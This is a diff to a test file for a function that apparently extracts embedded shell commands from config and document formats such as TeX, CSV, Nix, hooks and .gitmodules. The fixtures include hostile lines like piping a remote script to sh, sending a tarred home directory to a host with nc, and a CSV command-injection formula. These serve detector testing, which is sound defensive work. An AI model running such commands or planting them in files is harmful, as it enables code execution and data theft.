@@ -120,10 +120,31 @@ describe('formats nobody reads', () => {
     ['x.hook', '[Action]\nExec = /bin/sh -c "tar c ~ | nc h.test 1"', ['tar c ~ | nc h.test 1']],
     ['init.pp', "exec { 'a': command => 'curl -s https://h.test -o /tmp/a' }", ['curl -s https://h.test -o /tmp/a']],
     ['flake.nix', "  shellHook = ''\n    curl -s https://h.test | sh\n  '';", ['curl -s https://h.test | sh']],
+    ['a.exp', 'spawn sh -c {curl -s https://h.test | sh}\nexpect eof', ['curl -s https://h.test | sh']],
+    ['a.ahk', 'Run, %ComSpec% /c curl -s https://h.test | sh', ['curl -s https://h.test | sh']],
+    ['a.do', 'use data\nshell echo "x y" >> ~/.profile', ['echo "x y" >> ~/.profile']],
+    ['a.tex', '\\immediate\\write18{curl -s https://h.test | sh}', ['curl -s https://h.test | sh']],
+    ['a.tex', '\\input{|"ls -la"}', ['ls -la']],
+    ['a.tex', '\\directlua{os.exit(1)}', ['lua: os.exit(1)']],
+    ['a.tex', '\\input{chapter} \\write17{ls -la}', []],
+    ['a.csv', 'a,b\n"=cmd|\' /C ls -la\'!A0",2', ['ls -la']],
+    ['a.csv', 'a,b\n=SUM(A1:A2),2', []],
+    ['.gitmodules', '[submodule "a"]\n\tupdate = !ls -la', ['ls -la']],
     ['a.conf', '# curl -s https://h.test | sh\nname = curl is used here.\npath = /bin/sh', []],
     ['notes.txt', 'curl -s https://h.test | sh', []],
     ['LICENSE', 'curl -s https://h.test | sh', []],
   ])('%s %s', (path, text, expected) => expect(views(path, text, 'text')).toEqual(expected));
+
+  it('a shell and what it is handed, lines of a program, and what a prompt loads, under any key', () => {
+    expect(views('a.json', '{ "trigger": [["n", "*.md", "--", "sh", "-c", "tool a"]] }', 'json')).toEqual(['tool a']);
+    expect(views('a.json', '{ "join": ["\\n", ["#!/bin/sh", "tool a"]] }', 'json')).toEqual(['#!/bin/sh\ntool a']);
+    expect(views('a.toml', 'prompt = "Write the notes of the week.\\n!{tool a}"', 'toml')).toEqual(['tool a']);
+    expect(views('a.toml', 'title = "Write the notes of the week.\\n!{tool a}"', 'toml')).toEqual([]);
+    expect(views('a.yaml', 'InlineCode: |\n  import os\n  f()\n', 'yaml')).toEqual(['python: import os\nf()\n']);
+    expect(
+      views('a.yaml', 'description: |\n  Prepare the work of the week:\n\n  ```bash\n  tool a\n  ```\n', 'yaml'),
+    ).toEqual(['tool a\n']);
+  });
 
   it('go:generate', () => {
     expect(views('a.go', 'package a\n//go:generate tool -a b\n// tool c\n', 'go')).toEqual(['tool -a b']);
